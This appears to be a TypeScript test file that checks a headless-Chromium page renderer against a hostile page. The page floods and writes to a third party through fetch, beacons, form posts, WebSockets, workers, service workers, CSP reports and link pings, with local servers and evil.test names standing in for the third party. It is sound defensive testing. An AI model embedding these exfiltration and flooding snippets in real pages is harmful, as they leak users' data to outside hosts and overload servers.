// [F10] What a hostile page can send to a third party, in every way that a page has, with TLS and without: what arrives there, and
// how much of it.

import { chmodSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as wait } from 'node:timers/promises';
import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest';
import type { RenderOutcome } from '../../../src/render/port.ts';
import { temporaryDirectory } from '../../support/temporary-folder.ts';
import { startRecorder, type RequestRecorder } from './request-recorder.ts';
import { CHROMIUM, createTestRenderer, type TestRenderer } from './test-renderer.ts';

vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });

const TEXT = 'A page has to have some text before it counts as ready, at least about a line of it. ';

/** Many requests that change nothing. `OTHER` is the origin of the third party. */
const FLOODS = [
  `for (let n = 0; n < 300; n += 1) fetch(OTHER + '/fetch' + n).catch(() => 0)`,
  `for (let n = 0; n < 300; n += 1) append('script', { src: OTHER + '/script' + n })`,
  `append('style', { textContent: Array.from({ length: 100 }, (_, n) => '@import url(' + OTHER + '/css' + n + ');').join('') })`,
  `for (const rel of ['preload', 'prefetch', 'modulepreload']) for (let n = 0; n < 30; n += 1) append('link', { rel, as: 'script', href: OTHER + '/' + rel + n })`,
  `work("for (let n = 0; n < 100; n += 1) { fetch('" + OTHER + "/in-worker' + n).catch(() => 0); try { importScripts('" + OTHER + "/imported' + n) } catch {} }")`,
  `sandbox("for (let n = 0; n < 100; n += 1) fetch('" + OTHER + "/in-sandbox' + n).catch(() => 0)")`,
  `fetch(OTHER + '/hop0').catch(() => 0)`,
];

/** Requests that change something, and connections that are no requests. */
const WRITES = [
  `for (const method of ['POST', 'PUT', 'PATCH', 'DELETE']) for (const mode of ['cors', 'no-cors']) fetch(OTHER + '/method', { method, mode }).catch(() => 0)`,
  `const sent = new XMLHttpRequest(); sent.open('POST', OTHER + '/xhr'); sent.send('x')`,
  `append('iframe', { name: 'target' }); append('form', { method: 'post', target: 'target', action: OTHER + '/form' }).submit()`,
  `navigator.sendBeacon(OTHER + '/beacon', 'x')`,
  `for (const name of ['pagehide', 'unload', 'visibilitychange']) addEventListener(name, () => { navigator.sendBeacon(OTHER + '/late-beacon', 'x'); fetch(OTHER + '/late-fetch', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' }) })`,
  `globalThis.fetchLater?.(OTHER + '/fetch-later', { method: 'POST', body: 'x' })`,
  `append('a', { href: '#x', ping: OTHER + '/ping' }).click()`,
  `append('meta', { httpEquiv: 'content-security-policy', content: "img-src 'none'; report-uri " + OTHER + '/csp' }); append('img', { src: '/x' })`,
  `const SEND = "'.replace('http', 'ws') + '/socket'); socket.onopen = () => socket.send('x'.repeat(1e7))"; const SOCKET = "const socket = new WebSocket('" + OTHER + SEND`,
  `eval(SOCKET); work(SOCKET); sandbox(SOCKET); append('iframe').contentWindow.eval(SOCKET)`,
  `const POST = "fetch('" + OTHER + "/post', { method: 'POST', mode: 'no-cors', body: 'x' })"`,
  `work(POST); sandbox(POST); append('iframe', { src: 'data:text/html,<script>' + POST + '</scr' + 'ipt>' })`,
  `work("new Worker(URL.createObjectURL(new Blob([" + JSON.stringify(POST) + "])))")`,
  `try { new SharedWorker(URL.createObjectURL(new Blob([POST]))) } catch {}`,
  `try { new (append('iframe').contentWindow.SharedWorker)('/post.js') } catch {}`,
  `navigator.serviceWorker.register('/post.js').catch(() => 0)`,
  `window.open(OTHER + '/window')`,
];

const HELPERS = `
  const append = (name, values = {}) => document.body.appendChild(Object.assign(document.createElement(name), values));
  const work = (code) => new Worker(URL.createObjectURL(new Blob([code])));
  const sandbox = (code) => append('iframe', { sandbox: 'allow-scripts', srcdoc: '<p>x<script>' + code + '</scr' + 'ipt>' });`;

let renderer: TestRenderer;
const closing: Array<{ close(): Promise<void> }> = [];
beforeAll(() => {
  const executable = join(temporaryDirectory(), 'chromium');
  writeFileSync(executable, `#!/bin/sh\nexec ${CHROMIUM} "$@" --ignore-certificate-errors\n`);
  chmodSync(executable, 0o755);
  renderer = createTestRenderer({ executable, limits: { readyTimeoutMs: 4000 } });
});
afterEach(async () => {
  for (const one of closing.splice(0).toReversed()) await one.close();
});
afterAll(() => renderer.close());

async function startOther(protocol: 'http' | 'https', host = '127.0.0.3'): Promise<RequestRecorder> {
  const other = await startRecorder(protocol, host, (request, response) => {
    for (const name of ['origin', 'methods', 'headers']) response.setHeader(`access-control-allow-${name}`, '*');
    const [, hop] = /^\/hop(\d+)/.exec(request.url ?? '') ?? [];
    if (hop !== undefined) return void response.writeHead(302, { location: `/hop${Number(hop) + 1}` }).end();
    if (request.url?.startsWith('/cached') === true) response.setHeader('cache-control', 'max-age=3600');
    response.setHeader('content-type', 'text/javascript').end('0');
  });
  closing.push(other);
  return other;
}

/** Renders a page with this script, which has loaded something from the third party already. */
async function draw(
  other: RequestRecorder,
  script: string,
  source = script,
  by: TestRenderer = renderer,
): Promise<RenderOutcome> {
  const site = await startRecorder('http', '127.0.0.1', (request, response) => {
    const post = `fetch('${other.origin}/post', { method: 'POST', mode: 'no-cors', body: 'x' })`;
    if (request.url === '/post.js') return void response.setHeader('content-type', 'text/javascript').end(post);
    response
      .setHeader('content-type', 'text/html')
      .end(
        `<!doctype html><title>x</title><body><p>${TEXT}</p><script src="${other.origin}/ok.js"></script><script>const OTHER = ${JSON.stringify(other.origin)}; ${HELPERS}; ${script}</script>`,
      );
  });
  closing.push(site);
  const outcome = await by.render({ url: `${site.origin}/` as never, source });
  // What was sent while the page was closed.
  await wait(300);
  return outcome;
}

describe.each(['http', 'https'] as const)('a third party over %s', (protocol) => {
  test('gets a burst, and then as much as from a crawl, however many requests a page makes (finding V09)', async () => {
    const other = await startOther(protocol);
    const outcome = await draw(other, FLOODS.join(';\n'), `flood ${protocol}`);
    expect(outcome).toMatchObject({ kind: 'rendered', exceeded: '500 requests (render.maxRequests)' });
    const { totalMs } = outcome as Extract<RenderOutcome, { kind: 'rendered' }>;
    expect(other.requests).toContain('GET /fetch0');
    expect(other.requests.length).toBeLessThanOrEqual(50 + totalMs / 200 + 2);
    expect(other.requests.filter((one) => /prefetch|in-sandbox/.test(one))).toEqual([]);
  });

  test('gets nothing that changes something, and no web socket, whatever a page tries (finding V10)', async () => {
    const other = await startOther(protocol);
    const script = [...WRITES, `fetch(OTHER + '/asked', { headers: { 'x-own': '1' } })`].join(';\n');
    const outcome = await draw(other, script, `write ${protocol}`);
    expect(outcome).toMatchObject({ kind: 'rendered', exceeded: null });
    expect(other.requests.toSorted()).toEqual(['GET /asked', 'GET /ok.js', 'OPTIONS /asked']);
    expect(other.socketBytes()).toBe(0);
  });
});

// Not over https: Chromium keeps nothing that has a certificate like ours.
test('a part that the cache has costs a page no time (finding V09)', async () => {
  const other = await startOther('http');
  const script = `for (let n = 0; n < 40; n += 1) append('script', { src: OTHER + '/cached' + n })`;
  const site = await startRecorder('http', '127.0.0.1', (_, response) => {
    const html = `<!doctype html><title>x</title><body><p>${TEXT}</p><script>const OTHER = '${other.origin}'; ${HELPERS}; ${script}</script>`;
    response.setHeader('content-type', 'text/html').end(html);
  });
  closing.push(site);
  for (let nth = 0; nth < 4; nth += 1) {
    const outcome = await renderer.render({ url: `${site.origin}/${nth}` as never, source: 'cached' });
    expect(outcome).toMatchObject({ kind: 'rendered', readiness: 'quiet' });
  }
  expect(other.requests).toHaveLength(40);
});

test('a page reaches no more than twenty other hosts (finding V09)', async () => {
  const other = await startOther('http', '0.0.0.0');
  const { port } = new URL(other.origin);
  const before = renderer.dialled.length;
  const outcome = await draw(
    { ...other, origin: `http://127.0.0.3:${port}` },
    `for (let n = 3; n < 200; n += 1) fetch('http://127.0.0.' + n + ':${port}/q').catch(() => 0)`,
    'hosts',
  );
  expect(outcome).toMatchObject({ kind: 'rendered', exceeded: 'requests to 20 other hosts' });
  const hosts = new Set(renderer.dialled.slice(before).map((address) => address.split(':')[0]));
  expect(hosts.size).toBe(21);
});

test('names in one domain share its pace, since they may all lead to one address (finding V09)', async () => {
  const other = await startOther('http');
  const { port } = new URL(other.origin);
  const named = createTestRenderer({
    limits: { readyTimeoutMs: 4000 },
    dial: { allowHosts: ['*.evil.test'], resolve: async () => ['127.0.0.3'] },
  });
  closing.push(named);
  const script = `for (let n = 0; n < 300; n += 1) fetch('http://n' + (n % 15) + '.evil.test:${port}/q' + n).catch(() => 0)`;
  const outcome = await draw(other, script, 'names', named);
  expect(outcome).toMatchObject({ kind: 'rendered' });
  const { totalMs } = outcome as Extract<RenderOutcome, { kind: 'rendered' }>;
  expect(other.requests.length).toBeGreaterThan(20);
  expect(other.requests.length).toBeLessThanOrEqual(51 + totalMs / 200 + 2);
});

test('a page that sends more than it may fails (finding V10)', async () => {
  const other = await startOther('https');
  const outcome = await draw(
    other,
    `for (let n = 0; n < 400; n += 1) fetch('/q?' + n + 'x'.repeat(8000)).catch(() => 0)`,
  );
  expect(outcome).toMatchObject({ kind: 'failed', code: 'render.too-large', reason: 'it sends too much' });
});

test('a page that never stops making requests is ended (finding V09)', async () => {
  const other = await startOther('http');
  const loop = `setInterval(() => { for (let n = 0; n < 500; n += 1) fetch('/q' + Math.random(), { method: n % 2 ? 'POST' : 'GET' }).catch(() => 0) }, 0)`;
  const strict = createTestRenderer({ limits: { maxRequests: 100 } });
  closing.push(strict);
  const outcome = await draw(other, loop, 'endless', strict);
  expect(outcome).toMatchObject({ kind: 'failed', code: 'render.failed', reason: 'it makes requests without end' });
});
